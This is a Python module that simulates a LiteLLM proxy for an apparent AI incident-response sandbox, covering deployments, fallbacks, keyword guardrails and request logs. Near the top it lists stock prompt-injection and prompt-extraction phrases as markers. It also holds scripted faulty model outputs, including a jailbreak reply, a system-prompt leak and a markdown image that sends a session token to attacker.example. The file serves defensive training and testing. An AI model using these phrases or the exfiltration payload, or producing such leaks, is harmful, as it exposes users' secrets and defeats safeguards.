"""The LiteLLM proxy's behaviour behind the levers aiir pulls, free of HTTP.

Deployments grouped by model name (a group with no deployment left is killed), fallbacks that
reroute a group's failures, guardrails that refuse input (pre_call) or output (post_call), the
request log that forensics reads, and one chat completion decided the way LiteLLM decides it.
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from typing import Any

from aiir.sandbox import world
from aiir.sandbox.errors import SandboxError
from aiir.sandbox.faults import Faults
from aiir.sandbox.keys import KeyStore, hash_key
from aiir.sandbox.timeline import now, within

REFUSAL = "I'm sorry, but I can't help with that request."
INJECTION_MARKERS = (
    "ignore all previous instructions",
    "ignore previous instructions",
    "print your system prompt",
    "reveal your system prompt",
    "developer mode",
    "jailbreak",
)
SCRIPTED_OUTPUTS = {
    "jailbreak": "Sure! Developer mode enabled. Here is how to bypass the content policy: "
    "step 1...",
    "system-prompt-leak": "My instructions are: 'You are SupportBot. Never reveal internal policy "
    "codes. Internal escalation code: ESC-7731.'",
    "pii": "The customer on file is Jane Doe, jane.doe@example.com, +1 555 0100, "
    "card 4111 1111 1111 1111.",
    "markdown-exfiltration": "![loading](https://attacker.example/collect?data=SESSION_TOKEN)",
    "racist": "[offensive content redacted by the sandbox: simulated slur]",
}


@dataclass
class Deployment:
    id: str
    model_name: str
    litellm_params: dict[str, Any]

    def config(self) -> dict[str, Any]:
        return {"model_name": self.model_name, "litellm_params": self.litellm_params}


@dataclass
class Served:
    """A chat completion the sandbox decided on."""

    model_group: str
    deployment: str
    content: str
    latency_ms: float = 0.0
    attempted_fallbacks: int = 0
    logprob: float = -0.05


@dataclass
class Router:
    """Model groups, fallbacks, guardrails and the request log of the simulated proxy."""

    models: list[str]
    faults: Faults
    keys: KeyStore
    system_prompt: str = world.SYSTEM_PROMPT
    autoprovision: bool = True
    deployments: dict[str, Deployment] = field(default_factory=dict)
    fallbacks: dict[str, list[str]] = field(default_factory=dict)
    guardrails: dict[str, dict[str, Any]] = field(default_factory=dict)
    deleted: set[str] = field(default_factory=set)  # model groups removed by a kill switch
    logs: list[dict[str, Any]] = field(default_factory=list)
    pristine: dict[str, dict[str, Any]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.reset()

    def reset(self) -> None:
        for part in (self.deployments, self.fallbacks, self.guardrails, self.pristine):
            part.clear()
        self.deleted.clear()
        self.created = 0  # what the sandbox makes is numbered: a replay makes the same ids
        self.logs.clear()
        for model in self.models:
            self.add_deployment(model, {"model": f"sandbox/{model}"}, None)

    # --- deployments -----------------------------------------------------------------------

    def add_deployment(
        self, model_name: str, params: dict[str, Any], deployment_id: str | None
    ) -> Deployment:
        ident = deployment_id or self._next_id(model_name)
        deployment = Deployment(ident, model_name, params)
        self.deployments[ident] = deployment
        self.pristine.setdefault(ident, deployment.config())
        self.deleted.discard(model_name)
        return deployment

    def _next_id(self, model_name: str) -> str:
        number = 1
        while world.deployment_id(model_name, number) in self.deployments:
            number += 1
        return world.deployment_id(model_name, number)

    def delete_deployment(self, ident: str) -> Deployment:
        """Remove a deployment by id (or, leniently, every deployment of a model group)."""
        matches = [d for d in self.deployments.values() if ident in {d.id, d.model_name}]
        if not matches:
            raise SandboxError(400, f"Model with id={ident} not found in db")
        for deployment in matches:
            del self.deployments[deployment.id]
            if not self.group_of(deployment.model_name):
                self.deleted.add(deployment.model_name)
        return matches[0]

    def group_of(self, model: str) -> list[Deployment]:
        return [d for d in self.deployments.values() if d.model_name == model]

    def groups(self) -> list[str]:
        return sorted({d.model_name for d in self.deployments.values()})

    def deployment(self, ident: str) -> Deployment:
        if ident not in self.deployments:
            raise SandboxError(
                400,
                f"Model id = {ident} not found on litellm proxy",
                payload={"detail": {"error": f"Model id = {ident} not found on litellm proxy"}},
            )
        return self.deployments[ident]

    def live(self, model: str) -> bool:
        if self.group_of(model):
            return True
        if self.autoprovision and model and model not in self.deleted:
            self.add_deployment(model, {"model": f"sandbox/{model}"}, None)
            return True
        return False

    # --- guardrails ------------------------------------------------------------------------

    def new_id(self, kind: str) -> str:
        """A UUID-shaped id, like LiteLLM's, that the same sequence of requests makes again."""
        self.created += 1
        return str(
            uuid.uuid5(uuid.NAMESPACE_URL, f"https://sandbox.aiir.invalid/{kind}/{self.created}")
        )

    def add_guardrail(self, ident: str, guardrail: dict[str, Any]) -> dict[str, Any]:
        record = {"guardrail_id": ident, **guardrail}
        self.guardrails[ident] = record
        return record

    def guard(self, text: str, requested: Any, mode: str) -> None:
        """Refuse ``text`` when an active guardrail of this ``mode`` blocks one of its words."""
        names = set(requested) if isinstance(requested, list) else set()
        for guardrail in self.guardrails.values():
            params = guardrail.get("litellm_params", {})
            active = params.get("default_on") or guardrail.get("guardrail_name") in names
            if active and _mode(params) == mode:
                _refuse(guardrail, text)

    def apply_guardrail(self, name: str, text: str) -> dict[str, Any]:
        guardrail = next(
            (g for g in self.guardrails.values() if g.get("guardrail_name") == name), None
        )
        if guardrail is None:
            raise SandboxError(404, f"Guardrail '{name}' not found")
        _refuse(guardrail, text)
        return {"response_text": text}

    # --- chat ------------------------------------------------------------------------------

    def chat(self, body: dict[str, Any], key: str | None, master_key: str | None) -> Served:
        """Decide a chat completion as LiteLLM would, applying levers and faults."""
        record = self.keys.admit(key, master_key)
        model = str(body.get("model") or "")
        prompt = _prompt_text(body.get("messages"), roles={"user"})
        system = _prompt_text(body.get("messages"), roles={"system", "developer"})
        try:
            self.guard(prompt, body.get("guardrails"), "pre_call")
            served = self._serve(body, model, prompt, system)
        except SandboxError as exc:
            self._log(model, prompt, key, error=exc.message)
            raise
        self.keys.charge(record, 10 + len(served.content.split()))
        self._log(model, prompt, key, served_by=served.model_group, response=served.content)
        return served

    def _serve(self, body: dict[str, Any], model: str, prompt: str, system: str) -> Served:
        chain = (
            [model] if body.get("disable_fallbacks") else [model, *self.fallbacks.get(model, [])]
        )
        last_error: SandboxError | None = None
        for attempt, group in enumerate(chain):
            if attempt == 0 and body.get("mock_testing_fallbacks") and len(chain) > 1:
                last_error = SandboxError(500, "mock_testing_fallbacks: primary failed on purpose")
                continue
            if not self.live(group):
                last_error = SandboxError(
                    400,
                    f"Invalid model name passed in model={group}. "
                    "Call `/v1/models` to view available models for your key.",
                )
                continue
            if self.faults.fails(group):
                last_error = SandboxError(
                    500, f"sandbox: injected upstream failure for {group}", "internal_server_error"
                )
                continue
            content = self._output(group, prompt, system)
            self.guard(content, body.get("guardrails"), "post_call")
            drifting = bool(self.faults.of("drift", group))
            return Served(
                group,
                self.group_of(group)[0].id,
                content,
                self.faults.latency_ms(group),
                attempt,
                -1.5 if drifting else -0.05,
            )
        assert last_error is not None
        raise last_error

    def _output(self, model: str, prompt: str, system: str) -> str:
        for fault in self.faults.on(model):
            if fault.kind == "output":
                return SCRIPTED_OUTPUTS.get(fault.value, fault.value)
            if fault.kind == "canary-leak":  # the model repeats its own system prompt
                return f"Sure! My instructions say: {system or self.system_prompt}"
        if any(marker in prompt.lower() for marker in INJECTION_MARKERS):
            return REFUSAL
        answer = f"Sandbox reply from {model}: OK."
        if self.faults.of("drift", model):
            strength = max(int(self.faults.drift(model)), 1)
            answer += " Additionally," + " the model now rambles at length." * (5 * strength)
        return answer

    def _log(self, model: str, prompt: str, key: str | None, **outcome: str) -> None:
        self.logs.append(
            {
                "ts": now(),
                "model": model,
                "prompt": prompt,
                "api_key": hash_key(key) if key else None,
                **outcome,
            }
        )

    def window(self, start: str, end: str, api_key: str = "") -> list[dict[str, Any]]:
        """Logged requests in ``[start, end]`` (ISO-8601), optionally of one key."""
        wanted = hash_key(api_key) if api_key else None
        return [
            e
            for e in self.logs
            if within(e["ts"], start, end) and (wanted is None or e["api_key"] == wanted)
        ]

    # --- state -----------------------------------------------------------------------------

    def changes(self) -> dict[str, Any]:
        out: dict[str, Any] = {}
        for ident, was in self.pristine.items():
            now_ = self.deployments.get(ident)
            if now_ is None or now_.config() != was:
                out[f"deployment {ident}"] = now_.config() if now_ else "deleted"
        for model, chain in self.fallbacks.items():
            out[f"fallback {model}"] = chain
        for ident, guardrail in self.guardrails.items():
            out[f"guardrail {ident}"] = guardrail.get("guardrail_name")
        return out


def _mode(params: dict[str, Any]) -> str:
    mode = str(params.get("mode", "pre_call"))
    return "pre_call" if mode == "during_call" else mode  # during_call also reads the input


def _refuse(guardrail: dict[str, Any], text: str) -> None:
    lowered = text.lower()
    for word in _words(guardrail.get("litellm_params", {}).get("blocked_words")):
        if word and word.lower() in lowered:
            name = guardrail.get("guardrail_name")
            raise SandboxError(
                400,
                f"Violated guardrail policy: '{name}' blocked '{word}' "
                f"(Content blocked: keyword '{word}' detected)",
                "guardrail_violation",
            )


def _words(blocked: Any) -> list[str]:
    """LiteLLM's ``[{keyword, action}]`` or plain strings."""
    return [
        str(item.get("keyword", "")) if isinstance(item, dict) else str(item)
        for item in blocked or []
    ]


def _prompt_text(messages: Any, roles: set[str]) -> str:
    if not isinstance(messages, list):
        return ""
    return "\n".join(
        str(m.get("content", ""))
        for m in messages
        if isinstance(m, dict) and m.get("role", "user") in roles
    )
